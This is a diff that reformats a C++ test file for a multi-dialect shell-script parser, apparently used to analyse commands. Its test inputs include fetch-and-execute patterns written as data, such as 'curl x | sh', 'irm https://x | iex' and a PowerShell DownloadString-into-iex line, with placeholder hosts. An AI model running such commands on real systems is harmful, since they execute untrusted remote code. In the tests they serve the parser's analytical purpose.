@@ -19,7 +19,7 @@ std::string Shown(std::string_view text, Dialect dialect = Dialect::kPosix) {
     if (!shown.empty() || command.link != Command::Link::kSequence) shown += kLinks[static_cast<int>(command.link)];
     if (command.depth > 0) shown += "(" + std::to_string(command.depth) + ")";
     for (const Word& word : command.assignments) shown += "{" + word.value + "}";
-    for (std::size_t i = 0; i < command.words.size(); ++i) shown += (i == 0 ? "" : "," ) + command.words[i].value;
+    for (std::size_t i = 0; i < command.words.size(); ++i) shown += (i == 0 ? "" : ",") + command.words[i].value;
     for (const Redirect& redirect : command.redirects) {
       constexpr std::string_view kKinds[] = {"<", ">", ">>", "<<"};
       shown += std::string(kKinds[static_cast<int>(redirect.kind)]) + redirect.target.value;
@@ -71,7 +71,8 @@ TEST_CASE("compound commands are flattened") {
   CHECK(Shown("(a; b)") == "(1)a ; (1)b");
   CHECK(Shown("f() { a; }\nfunction g { b; }\nf") == "(1)a ; (1)b ; f");
   CHECK(Shown("case $x in a|b) c ;; (d) e;; *) f; esac; g") == "c ; e ; f ; g");
-  CHECK(Shown("case \"$x\" in\n  a)\n    case y in z) c;; esac\n    ;;\n  # note\n  *)\n    d\nesac\ne") == "c ; d ; e");
+  CHECK(Shown("case \"$x\" in\n  a)\n    case y in z) c;; esac\n    ;;\n  # note\n  *)\n    d\nesac\ne") ==
+        "c ; d ; e");
   CHECK(Shown("[[ $a =~ ^(x|y)$ && -n $b ]] && c") == "[[,$a,=~,^(x|y)$,&&,-n,$b && c");
   CHECK(Shown("if [[ -n $a ]]; then b; fi") == "[[,-n,$a ; b");
   CHECK(Shown("! a; time b; ((x++)); c") == "a ; time,b ; c");
@@ -142,7 +143,8 @@ TEST_CASE("names of commands") {
   const Script script = Script::Parse("sudo bash -euxc 'x' --norc=1 -- -z");
   const Command& command = script.commands()[0];
   CHECK(command.arguments().size() == 5);
-  CHECK((command.HasOption("-c") && command.HasOption("--norc") && !command.HasOption("-z") && !command.HasOption("-q")));
+  CHECK(
+      (command.HasOption("-c") && command.HasOption("--norc") && !command.HasOption("-z") && !command.HasOption("-q")));
 }
 
 TEST_CASE("pipelines") {
@@ -152,16 +154,19 @@ TEST_CASE("pipelines") {
   CHECK(script.PipelineOf(4) == std::pair<std::size_t, std::size_t>(1, 4));
   CHECK(script.PipelineOf(0) == std::pair<std::size_t, std::size_t>(0, 0));
   CHECK(script.PipelineOf(5) == std::pair<std::size_t, std::size_t>(5, 5));
-  CHECK(Script::Parse("for x in a; do curl $x; echo; done | sh").PipelineOf(2) == std::pair<std::size_t, std::size_t>(0, 2));
+  CHECK(Script::Parse("for x in a; do curl $x; echo; done | sh").PipelineOf(2) ==
+        std::pair<std::size_t, std::size_t>(0, 2));
   CHECK(Script::Parse("{ curl x; } | (cat; sh)").PipelineOf(0) == std::pair<std::size_t, std::size_t>(0, 1));
   CHECK(Script::Parse("curl x | (cat; sh)").PipelineOf(1) == std::pair<std::size_t, std::size_t>(0, 1));
 }
 
 TEST_CASE("PowerShell") {
   constexpr Dialect kPs = Dialect::kPowerShell;
-  CHECK(Shown("irm https://x | iex; Write-Host 'it''s' \"a`\"b\"", kPs) == "irm,https://x | iex ; Write-Host,it's,a\"b");
+  CHECK(Shown("irm https://x | iex; Write-Host 'it''s' \"a`\"b\"", kPs) ==
+        "irm,https://x | iex ; Write-Host,it's,a\"b");
   CHECK(Shown("iex ((New-Object Net.WebClient).DownloadString('https://x'))", kPs) ==
-        "iex,((New-Object Net.WebClient).DownloadString('https://x')) ; (1)(New-Object Net.WebClient).DownloadString('https://x') ; "
+        "iex,((New-Object Net.WebClient).DownloadString('https://x')) ; (1)(New-Object "
+        "Net.WebClient).DownloadString('https://x') ; "
         "(2)New-Object,Net.WebClient ; (2)https://x");
   CHECK(Shown("if ($x) { a } else { b }\nc", kPs) == "($x) ; (1)$x ; (1)a ; (1)b ; c");
   CHECK(Shown("$x = iwr `\n  -Uri u # c\n<# d\n #> e", kPs) == "{$x}iwr,-Uri,u ; e");
@@ -183,9 +188,13 @@ TEST_CASE("hostile scripts are read in linear time and without deep recursion") 
     while (all.size() < 400'000) all += text;
     return all;
   };
-  for (const std::string_view text : {"$(", "((", "$((", "(", "${", "`", "\"", "'", "<<A\n", "${{", "{{", "$[[", "<<", "case x in ", "{ ", "@(",
-                                      "a | ", "if ", "a=(", "[[ ", "\\", ")", "}", ";;", "<(", "$'", "@'\n", "<#", "\"$(", "((((a) b) c)", "@\"",
-                                      "sudo ", "{ a; } > b\n", "for x in ", "%", "a ", "done >f ", "<<A $(<<A\n"}) {
+  for (const std::string_view text : {"$(",       "((",         "$((",          "(",         "${",   "`",
+                                      "\"",       "'",          "<<A\n",        "${{",       "{{",   "$[[",
+                                      "<<",       "case x in ", "{ ",           "@(",        "a | ", "if ",
+                                      "a=(",      "[[ ",        "\\",           ")",         "}",    ";;",
+                                      "<(",       "$'",         "@'\n",         "<#",        "\"$(", "((((a) b) c)",
+                                      "@\"",      "sudo ",      "{ a; } > b\n", "for x in ", "%",    "a ",
+                                      "done >f ", "<<A $(<<A\n"}) {
     const std::string script = repeated(text);
     for (const Dialect dialect : {Dialect::kPosix, Dialect::kPowerShell, Dialect::kCmd}) {
       CAPTURE(text);
